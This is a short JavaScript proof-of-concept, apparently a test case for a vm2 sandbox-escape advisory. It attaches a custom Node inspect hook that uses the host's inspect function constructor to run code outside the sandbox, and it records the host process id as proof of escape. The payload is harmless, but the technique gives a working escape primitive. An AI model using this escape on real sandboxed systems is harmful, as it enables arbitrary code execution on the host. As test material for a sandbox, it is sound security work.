// Returns a record with an inspect hook, which Node calls with functions of its own.
// Class: proxies and traps
// Advisory: GHSA-47x8-96vw-5wg6 (vm2: nodejs.util.inspect.custom crosses the border)
// Win: the id holds the process id.
// Control: vm
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  const item = options.responseData[0];
  Object.defineProperty(item, Symbol.for('nodejs.util.inspect.custom'), {
    value(_depth, _options, inspect) {
      item.id = 'ESCAPED:' + inspect.constructor('return process.pid')();
      return '';
    },
  });
  return options.responseData;
}
